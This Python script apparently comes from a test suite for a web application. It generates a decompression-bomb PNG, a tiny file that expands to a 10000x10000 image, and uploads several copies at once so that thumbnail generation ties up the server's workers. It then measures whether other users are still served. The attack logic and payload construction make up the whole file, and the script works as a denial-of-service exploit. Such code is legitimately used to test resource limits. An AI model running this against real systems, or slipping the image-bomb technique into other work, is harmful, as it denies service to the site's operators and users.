#!/usr/bin/env python3
"""A stranger attaches images that are small files and large pictures, whose thumbnails take seconds each, so that no worker is left for others.
Bounded: a process of its own waits for one decoder at a time.  The class of `lab` that --of-class names must declare thumbnails (README.md)."""
import struct
import time
import zlib

from kit import BOUNDED, Impossible, Neighbours, run


def chunk(kind, data):
    return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data))


def picture(side):
    """A PNG of one colour, side by side pixels, 8 bit RGB: about a thousandth of what it takes in memory."""
    packer, row = zlib.compressobj(1), b'\0' + b'\xc8\x28\x28' * side
    data = b''.join(packer.compress(row) for _ in range(side)) + packer.flush()
    return b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', side, side, 8, 2, 0, 0, 0)) + chunk(b'IDAT', data) + chunk(b'IEND', b'')


def attack(target):
    options, image = target.options, picture(target.options.side)
    places = [f'/lab/doc/{options.of_class}/{target.document(options.of_class)}/file/picture.png' for _ in range(options.images)]
    with target.client() as client, Neighbours(target) as neighbours:
        begun, made = time.monotonic(), 0
        for place in places:
            answer = client.ask('PUT', place, image, {'Content-Type': 'image/png'})
            if answer.status not in (200, 201):
                raise Impossible(f'an image is refused: {answer}')
        while not (made and neighbours.are_served()) and time.monotonic() - begun < options.awaited:  # it shows that there is an attack
            time.sleep(0.2)
            made = sum(client.ask('HEAD', f'{place}~{options.thumbnail}').status == 200 for place in places)
        time.sleep(options.seconds)
        made = sum(client.ask('HEAD', f'{place}~{options.thumbnail}').status == 200 for place in places)
    if not made:
        raise Impossible(f'no thumbnail was made in {options.awaited:.0f} s: does the class declare them, and does a queue manager run?')
    neighbours.hold(options.longest)
    return BOUNDED, {'images': len(places), 'bytes of each': len(image), 'pixels of each': options.side ** 2, 'thumbnails made': made, **neighbours.figures()}


run(attack, ('--of-class', 'Photo', 'which declares thumbnails'), ('--thumbnail', 'small', 'the name of one'), ('--side', 10000, 'pixels'),
    ('--images', 8, 'at the same time'), ('--awaited', 60.0, 'seconds in which the first thumbnail must be made'))
